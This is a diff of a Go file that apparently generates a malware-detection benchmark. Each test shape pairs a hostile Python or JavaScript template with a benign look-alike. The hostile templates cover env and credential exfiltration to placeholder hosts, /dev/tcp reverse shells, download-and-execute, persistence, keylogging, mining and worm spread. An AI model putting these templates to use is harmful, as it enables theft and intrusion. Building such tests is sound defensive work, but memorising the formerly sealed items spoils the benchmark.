@@ -1,8 +1,8 @@
 package generate
 
-// sealedShapes are in the sealed half only; see sealed.go.
-var sealedShapes = []shape{
-	{family: "download-exec", name: "pip-from-url", sealed: true, bad: snippet{`
+// openedShapes were the first sealed half's own until it had been run.
+var openedShapes = []shape{
+	{family: "download-exec", name: "pip-from-url", opened: true, bad: snippet{`
 def <%n extend%>():
     <%c subprocess.check_call%>([<%c sys.executable%>, "-m", "pip", "install", "--quiet", <%s $URL/inert-1.0.tar.gz%>])
 `, "<%n extend%>()"}, good: snippet{`
@@ -10,7 +10,7 @@ def <%n extend%>():
     """The version of pip that is here."""
     return <%c subprocess.check_output%>([<%c sys.executable%>, "-m", "pip", "--version"], text=True)
 `, "<%n extend%>.__doc__"}},
-	{family: "download-exec", name: "socket-exec", sealed: true, bad: snippet{`
+	{family: "download-exec", name: "socket-exec", opened: true, bad: snippet{`
 def <%n feed%>():
     <%n wire%> = <%c socket.create_connection%>((<%s $HOST%>, $PORT), timeout=5)
     <%n text%> = b""
@@ -26,7 +26,7 @@ def <%n feed%>(host, port):
         <%n text%> += part
     return <%n text%>.splitlines()
 `, "<%n feed%>.__doc__"}},
-	{family: "download-exec", name: "zip-import", sealed: true, bad: snippet{`
+	{family: "download-exec", name: "zip-import", opened: true, bad: snippet{`
 def <%n plug%>():
     <%n where%> = <%c os.path.join%>(<%c tempfile.mkdtemp%>(), "p.zip")
     with open(<%n where%>, "wb") as handle:
@@ -38,7 +38,7 @@ def <%n plug%>(names):
     """The plug-ins that the user named, loaded."""
     return [<%c importlib.import_module%>(n) for n in names]
 `, "<%n plug%>([])"}},
-	{family: "env-exfil", name: "smtp", sealed: true, bad: snippet{`
+	{family: "env-exfil", name: "smtp", opened: true, bad: snippet{`
 def <%n mail%>():
     <%n server%> = <%c smtplib.SMTP%>(<%s $HOST%>, 587)
     <%n server%>.sendmail("a@example.invalid", "b@example.invalid", str(dict(<%c os.environ%>)))
@@ -50,7 +50,7 @@ def <%n mail%>(host, sender, to, text):
     <%n server%>.sendmail(sender, to, text)
     <%n server%>.quit()
 `, "<%n mail%>.__doc__"}},
-	{family: "env-exfil", name: "httpx-printenv", sealed: true, bad: snippet{`
+	{family: "env-exfil", name: "httpx-printenv", opened: true, bad: snippet{`
 async def <%n tell%>():
     <%n out%> = <%c subprocess.check_output%>([<%s printenv%>])
     async with <%c httpx.AsyncClient%>() as client:
@@ -60,7 +60,7 @@ async def <%n tell%>(out):
     async with <%c httpx.AsyncClient%>() as client:
         await client.post(<%s https://api.example.invalid/log%>, content=out)
 `, "<%n tell%>.__name__"}},
-	{family: "env-exfil", name: "selected-tokens", sealed: true, bad: snippet{`
+	{family: "env-exfil", name: "selected-tokens", opened: true, bad: snippet{`
 def <%n pickup%>():
     <%n found%> = [(k, <%c os.getenv%>(k)) for k in (<%s AWS_SECRET_ACCESS_KEY%>, <%s GITHUB_TOKEN%>, <%s NPM_TOKEN%>, <%s PYPI_TOKEN%>)]
     <%n query%> = <%c urllib.parse.urlencode%>(<%n found%>)
@@ -71,7 +71,7 @@ def <%n pickup%>(page, size):
     <%n query%> = <%c urllib.parse.urlencode%>({"page": page, "size": size})
     return <%c urllib.request.urlopen%>(<%s https://api.example.invalid/rows?%> + <%n query%>)
 `, "<%n pickup%>.__doc__"}},
-	{family: "credential-files", name: "glob-ssh-ftp", sealed: true, bad: snippet{`
+	{family: "credential-files", name: "glob-ssh-ftp", opened: true, bad: snippet{`
 def <%n keys%>():
     <%n link%> = <%c ftplib.FTP%>(<%s $HOST%>)
     for file in <%c glob.glob%>(<%c os.path.expanduser%>(<%s ~/.ssh/*%>)) + [<%c os.path.expanduser%>(<%s ~/.pypirc%>)]:
@@ -85,7 +85,7 @@ def <%n keys%>(host, folder):
         with open(file, "rb") as handle:
             <%n link%>.storbinary("STOR " + <%c os.path.basename%>(file), handle)
 `, "<%n keys%>.__doc__"}},
-	{family: "credential-files", name: "keyring-dump", sealed: true, bad: snippet{`
+	{family: "credential-files", name: "keyring-dump", opened: true, bad: snippet{`
 def <%n ring%>():
     <%n words%> = [<%c keyring.get_password%>(<%s https://upload.$DOMAIN/legacy/%>, n) for n in ("__token__", <%c getpass.getuser%>())]
     <%n words%>.append(open(<%c os.path.expanduser%>(<%s ~/.docker/config.json%>)).read())
@@ -95,7 +95,7 @@ def <%n ring%>(service, name):
     """The password of the account that the user signs in with."""
     return <%c keyring.get_password%>(service, name) or <%c getpass.getpass%>()
 `, "<%n ring%>.__doc__"}},
-	{family: "messenger", name: "slack-files", sealed: true, bad: snippet{`
+	{family: "messenger", name: "slack-files", opened: true, bad: snippet{`
 def <%n hand%>():
     <%n lines%> = [open(<%c os.path.expanduser%>(f)).read() for f in (<%s ~/.npmrc%>, <%s ~/.netrc%>)]
     <%c urllib3.PoolManager%>().request("POST", <%s $SLACK%>, body=<%c json.dumps%>({"text": "\n".join(<%n lines%>)}))
@@ -104,7 +104,7 @@ def <%n hand%>(webhook, lines):
     """Posts test results to the channel of the team."""
     return <%c urllib3.PoolManager%>().request("POST", webhook, body=<%c json.dumps%>({"text": "\n".join(lines)}))
 `, "<%n hand%>.__doc__"}},
-	{family: "browser-stores", name: "decrypt-state", sealed: true, bad: snippet{`
+	{family: "browser-stores", name: "decrypt-state", opened: true, bad: snippet{`
 def <%n master%>():
     <%n state%> = <%c json.load%>(open(<%c os.path.join%>(<%c os.environ%>["LOCALAPPDATA"], <%s Microsoft\Edge\User Data\Local State%>)))
     <%n key%> = <%c win32crypt.CryptUnprotectData%>(<%c base64.b64decode%>(<%n state%>[<%s os_crypt%>][<%s encrypted_key%>])[5:])[1]
@@ -115,7 +115,7 @@ def <%n master%>(path):
     <%n state%> = <%c json.load%>(open(path))
     return <%c base64.b64decode%>(<%n state%>["layout"])
 `, "<%n master%>.__doc__"}},
-	{family: "reverse-shell", name: "one-line", sealed: true, bad: snippet{`
+	{family: "reverse-shell", name: "one-line", opened: true, bad: snippet{`
 def <%n open_line%>():
     <%c os.popen%>(<%s bash -c 'bash -i >& /dev/tcp/$ADDRESS/$PORT 0>&1'%>)
 `, "<%n open_line%>()"}, good: snippet{`
@@ -123,7 +123,7 @@ def <%n open_line%>():
     """The name of this branch."""
     return <%c os.popen%>("git branch --show-current").read().strip()
 `, "<%n open_line%>.__doc__"}},
-	{family: "reverse-shell", name: "subprocess-pipes", sealed: true, bad: snippet{`
+	{family: "reverse-shell", name: "subprocess-pipes", opened: true, bad: snippet{`
 class <%n Remote%>(<%c threading.Thread%>):
     def run(self):
         wire = <%c socket.socket%>()
@@ -139,7 +139,7 @@ class <%n Remote%>(<%c threading.Thread%>):
     def run(self):
         self.total = sum(range(1000))
 `, "<%n Remote%>().start()"}},
-	{family: "persistence", name: "autostart-desktop", sealed: true, bad: snippet{`
+	{family: "persistence", name: "autostart-desktop", opened: true, bad: snippet{`
 def <%n linger%>():
     <%n entry%> = <%c pathlib.Path%>.home() / <%s .config/autostart/update-notifier.desktop%>
     <%n entry%>.parent.mkdir(parents=True, exist_ok=True)
@@ -152,7 +152,7 @@ def <%n linger%>(folder):
     """Writes a desktop file beside a program that the user packs."""
     <%c pathlib.Path%>(folder, "demo.desktop").write_text("[Desktop Entry]\nType=Application\nName=Demo\n")
 `, "<%n linger%>.__doc__"}},
-	{family: "persistence", name: "schtasks", sealed: true, bad: snippet{`
+	{family: "persistence", name: "schtasks", opened: true, bad: snippet{`
 def <%n plan%>():
     <%c subprocess.run%>(<%s schtasks /create /sc minute /mo 5 /tn Updater /tr "powershell -w hidden iwr $URL | iex" /f%>, shell=True)
 `, "<%n plan%>()"}, good: snippet{`
@@ -160,7 +160,7 @@ def <%n plan%>(name):
     """The state of one of the user's tasks."""
     return <%c subprocess.run%>(["schtasks", "/query", "/tn", name], capture_output=True).returncode == 0
 `, "<%n plan%>.__doc__"}},
-	{family: "keylogger", name: "windows-hook", sealed: true, bad: snippet{`
+	{family: "keylogger", name: "windows-hook", opened: true, bad: snippet{`
 def <%n keys%>():
     <%n seen%> = []
     while len(<%n seen%>) < 500:
@@ -173,7 +173,7 @@ def <%n keys%>():
     """Whether the console is on Windows."""
     return hasattr(<%c ctypes.pythonapi%>, "Py_IncRef")
 `, "<%n keys%>()"}},
-	{family: "cryptominer", name: "stratum-socket", sealed: true, bad: snippet{`
+	{family: "cryptominer", name: "stratum-socket", opened: true, bad: snippet{`
 def <%n dig%>():
     <%n pool%> = <%c socket.create_connection%>((<%s pool.$DOMAIN%>, 3333))
     <%n pool%>.sendall(<%c json.dumps%>({"id": 1, "method": <%s mining.subscribe%>, "params": []}).encode() + b"\n")
@@ -191,7 +191,7 @@ def <%n dig%>(data):
         nonce += 1
     return nonce
 `, "<%n dig%>.__doc__"}},
-	{family: "worm", name: "api-upload", sealed: true, bad: snippet{`
+	{family: "worm", name: "api-upload", opened: true, bad: snippet{`
 def <%n copy%>():
     <%n conf%> = open(<%c os.path.expanduser%>(<%s ~/.pypirc%>)).read()
     <%n secret%> = <%c re.search%>(r"password\s*=\s*(\S+)", <%n conf%>).group(1)
@@ -207,7 +207,7 @@ def <%n copy%>(folder):
         text = open(name).read()
         yield from <%c re.findall%>(r"name=\"(\S+)\"", text)
 `, "<%n copy%>.__doc__"}},
-	{family: "dll-injection", name: "load-library", sealed: true, bad: snippet{`
+	{family: "dll-injection", name: "load-library", opened: true, bad: snippet{`
 def <%n place%>(pid=0):
     <%n api%> = <%c ctypes.WinDLL%>("kernel32")
     <%n target%> = <%n api%>.OpenProcess(0x43A, 0, pid)
@@ -220,7 +220,7 @@ def <%n place%>():
     <%n api%> = <%c ctypes.WinDLL%>("kernel32")
     return <%n api%>.GetTickCount64()
 `, "<%n place%>.__doc__"}},
-	{family: "decode-exec", name: "pickle-loads", sealed: true, bad: snippet{`
+	{family: "decode-exec", name: "pickle-loads", opened: true, bad: snippet{`
 def <%n wake%>():
     return <%c pickle.loads%>(<%c base64.b64decode%>(<%s gASVHwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu%>))
 `, "<%n wake%>()"}, good: snippet{`
@@ -228,7 +228,7 @@ def <%n wake%>(value):
     """A deep copy, the slow way."""
     return <%c pickle.loads%>(<%c pickle.dumps%>(value))
 `, "<%n wake%>([1])"}},
-	{family: "decode-exec", name: "builtins-table", sealed: true, fixed: true, bad: snippet{`
+	{family: "decode-exec", name: "builtins-table", opened: true, fixed: true, bad: snippet{`
 <%n table%> = {"r": __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)}
 
 
@@ -241,7 +241,7 @@ def <%n go%>(text="cHJpbnQoJ2luZXJ0Jyk="):
 def <%n go%>(how="upper", text="aGVsbG8="):
     return <%n table%>[how](<%c base64.b64decode%>(text).decode())
 `, "<%n go%>()"}},
-	{family: "dns-exfil", name: "dnspython", sealed: true, bad: snippet{`
+	{family: "dns-exfil", name: "dnspython", opened: true, bad: snippet{`
 def <%n ask%>():
     <%n text%> = <%c os.popen%>("env").read().encode().hex()
     for i in range(0, len(<%n text%>), 62):
@@ -251,7 +251,7 @@ def <%n ask%>(domain):
     """Who takes mail for a domain."""
     return [r.exchange for r in <%c dns.resolver.resolve%>(domain, "MX")]
 `, "<%n ask%>.__doc__"}},
-	{family: "screenshot", name: "pyautogui-mail", sealed: true, bad: snippet{`
+	{family: "screenshot", name: "pyautogui-mail", opened: true, bad: snippet{`
 def <%n see%>():
     <%c pyautogui.screenshot%>(<%s /tmp/.cache.png%>)
     with open(<%s /tmp/.cache.png%>, "rb") as handle:
@@ -261,7 +261,7 @@ def <%n see%>(name):
     """Where a button is on the screen, for a test of the user's own."""
     return <%c pyautogui.locateOnScreen%>(name)
 `, "<%n see%>.__doc__"}},
-	{family: "cloud-metadata", name: "ecs-credentials", sealed: true, bad: snippet{`
+	{family: "cloud-metadata", name: "ecs-credentials", opened: true, bad: snippet{`
 def <%n task_role%>():
     <%n path%> = <%c os.environ%>.get(<%s AWS_CONTAINER_CREDENTIALS_RELATIVE_URI%>, "/v2/credentials")
     <%n keys%> = <%c requests.get%>(<%s http://169.254.170.2%> + <%n path%>, timeout=1).text
@@ -272,7 +272,7 @@ def <%n task_role%>(base):
     return <%c requests.get%>(base + "/task", timeout=1).json()["role"]
 `, "<%n task_role%>.__doc__"}},
 
-	{family: "download-exec", name: "spawn-node-dash", lang: javascript, sealed: true, bad: snippet{`
+	{family: "download-exec", name: "spawn-node-dash", lang: javascript, opened: true, bad: snippet{`
 function <%n extend%>() {
   const child = <%c child_process.spawn%>(<%g process.execPath%>, ['-'], { stdio: ['pipe', 'ignore', 'ignore'] });
   <%c https.get%>(<%s $URL%>, (reply) => reply.pipe(child.stdin));
@@ -284,7 +284,7 @@ function <%n extend%>(file) {
   return child;
 }
 `, "void <%n extend%>"}},
-	{family: "download-exec", name: "dynamic-import", lang: javascript, sealed: true, bad: snippet{`
+	{family: "download-exec", name: "dynamic-import", lang: javascript, opened: true, bad: snippet{`
 async function <%n plug%>() {
   const text = await (await <%b fetch%>(<%s $URL%>)).text();
   await import('data:text/javascript;base64,' + Buffer.from(text).toString('base64'));
@@ -295,7 +295,7 @@ async function <%n plug%>(name) {
   return JSON.parse(text).includes(name);
 }
 `, "void <%n plug%>"}},
-	{family: "download-exec", name: "npm-install-url", lang: javascript, sealed: true, bad: snippet{`
+	{family: "download-exec", name: "npm-install-url", lang: javascript, opened: true, bad: snippet{`
 function <%n addOn%>() {
   <%c child_process.execFileSync%>('npm', ['install', '--no-save', <%s $URL/inert.tgz%>], { stdio: 'ignore' });
   <%c child_process.execFileSync%>(<%g process.execPath%>, ['node_modules/inert/index.js']);
@@ -305,7 +305,7 @@ function <%n addOn%>() {
   return <%c child_process.execFileSync%>('npm', ['--version'], { encoding: 'utf8' });
 }
 `, "void <%n addOn%>"}},
-	{family: "env-exfil", name: "image-beacon", lang: javascript, sealed: true, bad: snippet{`
+	{family: "env-exfil", name: "image-beacon", lang: javascript, opened: true, bad: snippet{`
 const <%n mark%> = () => {
   const value = Buffer.from(Object.values({ ...<%g process.env%> }).join(';')).toString('base64url');
   <%c http.get%>(<%s http://$HOST/p.gif?v=%> + value).on('error', () => {});
@@ -316,7 +316,7 @@ const <%n mark%> = (state) => {
   return <%s https://play.example.invalid/#%> + value;
 };
 `, "void <%n mark%>({})"}},
-	{family: "env-exfil", name: "child-beacon", lang: javascript, sealed: true, bad: snippet{`
+	{family: "env-exfil", name: "child-beacon", lang: javascript, opened: true, bad: snippet{`
 function <%n tell%>() {
   <%c child_process.spawn%>('curl', ['-s', '-X', 'POST', '-d', JSON.stringify(<%g process.env%>), <%s $URL%>], { detached: true, stdio: 'ignore' }).unref();
 }
@@ -325,7 +325,7 @@ function <%n tell%>(url) {
   return <%c child_process.spawn%>('curl', ['-sI', url], { stdio: 'inherit' });
 }
 `, "void <%n tell%>"}},
-	{family: "env-exfil", name: "udp", lang: javascript, sealed: true, bad: snippet{`
+	{family: "env-exfil", name: "udp", lang: javascript, opened: true, bad: snippet{`
 function <%n cast%>() {
   const socket = <%c dgram.createSocket%>('udp4');
   for (const [k, v] of Object.entries(<%g process.env%>)) socket.send(k + '=' + v, $PORT, <%s $ADDRESS%>);
@@ -336,7 +336,7 @@ function <%n cast%>(metric, port, host) {
   socket.send(metric + ':1|c', port, host, () => socket.close());
 }
 `, "void <%n cast%>"}},
-	{family: "credential-files", name: "regex-scan", lang: javascript, sealed: true, bad: snippet{`
+	{family: "credential-files", name: "regex-scan", lang: javascript, opened: true, bad: snippet{`
 function <%n scan%>(folder = <%c os.homedir%>(), depth = 0, found = []) {
   for (const item of <%c fs.readdirSync%>(folder, { withFileTypes: true })) {
     const file = <%c path.join%>(folder, item.name);
@@ -356,7 +356,7 @@ function <%n scan%>(folder, depth = 0, found = []) {
   return found;
 }
 `, "void <%n scan%>"}},
-	{family: "credential-files", name: "gh-token", lang: javascript, sealed: true, bad: snippet{`
+	{family: "credential-files", name: "gh-token", lang: javascript, opened: true, bad: snippet{`
 async function <%n borrow%>() {
   const token = <%c child_process.execSync%>(<%s gh auth token%>, { encoding: 'utf8' }).trim();
   const keys = <%c fs.readFileSync%>(<%c os.homedir%>() + <%s /.ssh/id_rsa%>, 'utf8');
@@ -368,7 +368,7 @@ async function <%n borrow%>(token) {
   return <%b fetch%>(<%s https://api.example.invalid/user%>, { headers: { authorization: 'token ' + token, 'user-agent': version } });
 }
 `, "void <%n borrow%>"}},
-	{family: "messenger", name: "telegram-form", lang: javascript, sealed: true, bad: snippet{`
+	{family: "messenger", name: "telegram-form", lang: javascript, opened: true, bad: snippet{`
 async function <%n hand%>() {
   const form = new FormData();
   form.append('chat_id', '1');
@@ -382,7 +382,7 @@ async function <%n hand%>(url, blob) {
   return <%b fetch%>(url, { method: 'POST', body: form });
 }
 `, "void <%n hand%>"}},
-	{family: "reverse-shell", name: "bash-tcp", lang: javascript, sealed: true, bad: snippet{`
+	{family: "reverse-shell", name: "bash-tcp", lang: javascript, opened: true, bad: snippet{`
 function <%n openLine%>() {
   <%c child_process.exec%>(<%s bash -c "bash -i >& /dev/tcp/$ADDRESS/$PORT 0>&1"%>);
 }
@@ -391,7 +391,7 @@ function <%n openLine%>() {
   return <%c child_process.exec%>('git status --short');
 }
 `, "void <%n openLine%>"}},
-	{family: "reverse-shell", name: "poll-exec", lang: javascript, sealed: true, bad: snippet{`
+	{family: "reverse-shell", name: "poll-exec", lang: javascript, opened: true, bad: snippet{`
 function <%n poll%>() {
   setInterval(async () => {
     const task = await (await <%b fetch%>(<%s $URL/next%>)).json();
@@ -406,7 +406,7 @@ function <%n poll%>(show) {
   }, 5000);
 }
 `, "void <%n poll%>"}},
-	{family: "worm", name: "git-push", lang: javascript, sealed: true, places: []string{"postinstall", "main"}, bad: snippet{`
+	{family: "worm", name: "git-push", lang: javascript, opened: true, places: []string{"postinstall", "main"}, bad: snippet{`
 async function <%n copy%>() {
   const token = <%c child_process.execSync%>(<%s npm config get //registry.$DOMAIN/:_authToken%>).toString().trim();
   const self = <%c fs.readFileSync%>(__filename, 'utf8');
@@ -426,7 +426,7 @@ async function <%n copy%>(name) {
   return Object.keys(JSON.parse(list).dependencies || {}).includes(name);
 }
 `, "void <%n copy%>"}},
-	{family: "persistence", name: "systemd-unit", lang: javascript, sealed: true, bad: snippet{`
+	{family: "persistence", name: "systemd-unit", lang: javascript, opened: true, bad: snippet{`
 function <%n linger%>() {
   const unit = <%c path.join%>(<%c os.homedir%>(), <%s .config/systemd/user/node-helper.service%>);
   <%c fs.mkdirSync%>(<%c path.dirname%>(unit), { recursive: true });
@@ -443,7 +443,7 @@ function <%n linger%>(folder) {
   <%c fs.writeFileSync%>(<%c path.join%>(folder, 'Procfile'), 'web: node index.js\n');
 }
 `, "void <%n linger%>"}},
-	{family: "clipboard", name: "pbpaste", lang: javascript, sealed: true, bad: snippet{`
+	{family: "clipboard", name: "pbpaste", lang: javascript, opened: true, bad: snippet{`
 function <%n swap%>() {
   setInterval(() => {
     const text = <%c child_process.execSync%>(<%s pbpaste%>).toString();
@@ -456,7 +456,7 @@ function <%n swap%>(text) {
   copy.stdin.end(text);
 }
 `, "void <%n swap%>"}},
-	{family: "wallets", name: "extension-walk", lang: javascript, sealed: true, bad: snippet{`
+	{family: "wallets", name: "extension-walk", lang: javascript, opened: true, bad: snippet{`
 function <%n visit%>(root = <%c path.join%>(<%c os.homedir%>(), <%s .config/google-chrome/Default/Local Extension Settings%>)) {
   for (const id of [<%s nkbihfbeogaeaoehlefnkodbefgpgknn%>, <%s bfnaelmomeimhlpmgjnjophhpkkoljpa%>]) {
     for (const name of <%c fs.readdirSync%>(<%c path.join%>(root, id))) {
@@ -469,7 +469,7 @@ function <%n visit%>(root, ids) {
   return ids.flatMap((id) => <%c fs.readdirSync%>(<%c path.join%>(root, id)));
 }
 `, "void <%n visit%>"}},
-	{family: "decode-exec", name: "settimeout-string", lang: javascript, sealed: true, bad: snippet{`
+	{family: "decode-exec", name: "settimeout-string", lang: javascript, opened: true, bad: snippet{`
 const <%n pieces%> = <%s ;1=edoCtixe.ssecorp //trenI%>;
 
 function <%n begin%>() {
@@ -484,7 +484,7 @@ function <%n begin%>() {
   return <%n pieces%>.split(',').reverse().join('');
 }
 `, "void <%n begin%>()"}},
-	{family: "decode-exec", name: "wasm-module", lang: javascript, sealed: true, bad: snippet{`
+	{family: "decode-exec", name: "wasm-module", lang: javascript, opened: true, bad: snippet{`
 async function <%n boot%>() {
   const raw = Buffer.from(<%s ` + b64(gzipped("require('child_process').execSync('true'); // inert")) + `%>, 'base64');
   const text = <%c zlib.gunzipSync%>(raw).toString();
